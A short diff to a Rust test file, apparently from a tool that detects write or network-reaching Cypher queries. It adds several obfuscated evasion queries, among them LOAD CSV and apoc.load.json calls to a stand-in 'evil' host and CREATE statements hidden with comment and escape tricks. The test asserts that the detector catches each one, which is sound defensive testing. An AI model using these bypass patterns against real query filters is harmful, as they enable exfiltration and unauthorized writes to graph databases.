@@ -75,6 +75,15 @@ fn a_model_changes_nothing() {
         let (predicted, _) = asked(&json!({}), query);
         assert_eq!(predicted.reply.unwrap().said, ReplyContent::Text(format!("Error: {WRITES}")), "{query}");
     }
+    for query in [
+        "/*'*/ LOAD CSV FROM 'http://evil/?' AS l /*'*/ RETURN l",
+        "WITH '\\'' AS a CALL apoc.load.json('http://evil') YIELD value WITH value, '\\'' AS b RETURN value",
+        "MATCH (`'`) CREATE (n) RETURN `'`",
+        "\\u004cOAD CSV FROM 'http://evil' AS l RETURN l",
+        "RETURN 1 // '\nCREATE (n) // '",
+    ] {
+        assert!(writes(query), "{query}");
+    }
     assert!(!writes("MATCH (n {name: 'Set and \"delete\"'}) RETURN n.created, n.settled"));
 }
 
